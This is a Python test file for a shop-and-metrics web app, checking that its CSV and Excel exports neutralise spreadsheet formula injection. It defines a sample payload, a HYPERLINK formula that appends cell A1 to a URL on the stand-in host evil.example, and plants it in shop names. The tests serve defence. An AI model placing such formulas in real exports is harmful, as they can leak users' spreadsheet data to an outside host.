"""No cell of a file choso writes becomes a live formula in a spreadsheet (issue 13.7)."""

import csv
import io

from openpyxl import load_workbook

from core.spreadsheets import DANGEROUS, csv_text, guard, unguard, xlsx_bytes
from core.testing import bearer
from tests.metrics.conftest import MONTH
from tests.metrics.test_pages_and_exports import staff_client

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


def test_the_writer_neutralises_every_dangerous_start_and_import_reads_it_back():
    for start in DANGEROUS:
        text = f"{start}1+1"
        assert guard(text) == "'" + text and unguard(guard(text)) == text
    assert guard(-5) == -5 and guard("Chè Thái") == "Chè Thái"
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[EVIL]]).lstrip("\ufeff"))))
    assert rows[1] == ["'" + EVIL]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["name"], [[EVIL], [-5]], "x"))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'" + EVIL and sheet["A3"].value == -5


def test_a_shop_named_as_a_formula_is_plain_text_in_every_export(client, factory, db, village):
    from core.models import HouseholdBusiness

    for shop in db.query(HouseholdBusiness).filter_by(commune_code="00583"):
        shop.name = EVIL
    db.commit()
    staff_client(client, factory, db)
    seen = 0
    for url in (f"/staff/00583/metrics/households_total/records.csv?month={MONTH}",
                f"/staff/00583/metrics/ocop_online_share/records.csv?month={MONTH}"):
        text = client.get(url).data.decode("utf-8-sig")
        assert EVIL not in [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        seen += text.count("'=HYPERLINK")
    for url in (f"/staff/00583/metrics/households_total/records.xlsx?month={MONTH}",
                f"/staff/00583/metrics/ocop_online_share/records.xlsx?month={MONTH}",
                f"/staff/00583/metrics.xlsx?month={MONTH}"):
        sheet = load_workbook(io.BytesIO(client.get(url).data)).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                seen += str(cell.value).startswith("'=HYPERLINK")
    assert seen >= 4
    shop = db.query(HouseholdBusiness).filter_by(commune_code="00583").first()
    owner = factory.token(shop.owner)
    product = factory.product(shop, name="-Giảm giá 50%")
    text = client.get(f"/api/v1/households/{shop.id}/products.csv", headers=bearer(owner)).data.decode("utf-8-sig")
    assert "'-Giảm giá 50%" in text and product.name == "-Giảm giá 50%"
